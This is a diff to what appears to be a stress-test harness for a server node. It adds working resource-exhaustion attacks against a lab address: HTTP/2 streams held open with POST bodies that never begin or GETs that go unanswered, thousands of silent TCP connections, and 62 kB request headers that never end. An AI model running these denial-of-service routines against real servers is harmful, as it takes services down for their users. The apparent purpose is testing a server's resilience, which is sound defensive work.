@@ -318,6 +318,67 @@ def http2_rapid_reset(node):
             connections[at] = None
 
 
+def _http2_client():
+    """Connects from an address of its own, and begins HTTP/2 without TLS."""
+    sock = socket.socket()
+    sock.bind((STRANGER, 0))
+    sock.connect(STRANGERS_NODE)
+    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + wire.http2_frame(4, 0, 0))
+    return sock
+
+
+#: Another client than those that are measured.
+STRANGER = "10.97.0.9"
+STRANGERS_NODE = (network.NODE, 8080)
+
+
+def _http2_streams(connections, streams, method, end, path):
+    """Opens so many streams on each of so many connections, and keeps them open."""
+    opened = []
+    for at in range(connections):
+        sock = _http2_client()
+        for number in range(streams):
+            target = path.format(os.getpid(), at, number).encode()
+            # Static table entries 2 or 3 and 6, literals for :path and :authority.
+            head = bytes([0x82 if method == "GET" else 0x83, 0x86, 0x44, len(target)]) + target + b"\x41\x01a"
+            sock.sendall(wire.http2_frame(1, 5 if end else 4, 1 + 2 * number, head))
+        opened.append(sock)
+    return opened
+
+
+def _hold_streams(connections, streams, method, end, path):
+    while True:
+        opened = _http2_streams(connections, streams, method, end, path)
+        # The node times them out after a minute.
+        time.sleep(20)
+        for sock in opened:
+            sock.close()
+
+
+@attack("42 HTTP/2 connections with 125 POST each whose body never begins")
+def empty_uploads(_node):
+    _hold_streams(42, 125, "POST", False, "/upload/{}/{}/{}")
+
+
+@attack("3 HTTP/2 connections with 120 GET each that the origin never answers")
+def slow_gets(_node):
+    _hold_streams(3, 120, "GET", True, "/never/{}/{}/{}")
+
+
+@attack("10,050 TCP connections to the HTTP port that send nothing")
+def silent_connections(node):
+    async def connect():
+        return await asyncio.open_connection(node["address"], node["http"], local_addr=(STRANGER, 0), limit=1 << 14)
+    asyncio.run(_hold(10_050, connect, b""))
+
+
+@attack("3,000 connections with a head of 62 kB each that never ends")
+def endless_heads(node):
+    async def connect():
+        return await asyncio.open_connection(node["address"], node["http"], local_addr=(STRANGER, 0), limit=1 << 14)
+    asyncio.run(_hold(3000, connect, b"GET / HTTP/1.1\r\nhost: a\r\nx: " + b"a" * 62_000))
+
+
 def source_of_black_hole():
     """Takes the Interests of the route /blackhole and answers none, until the process ends."""
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
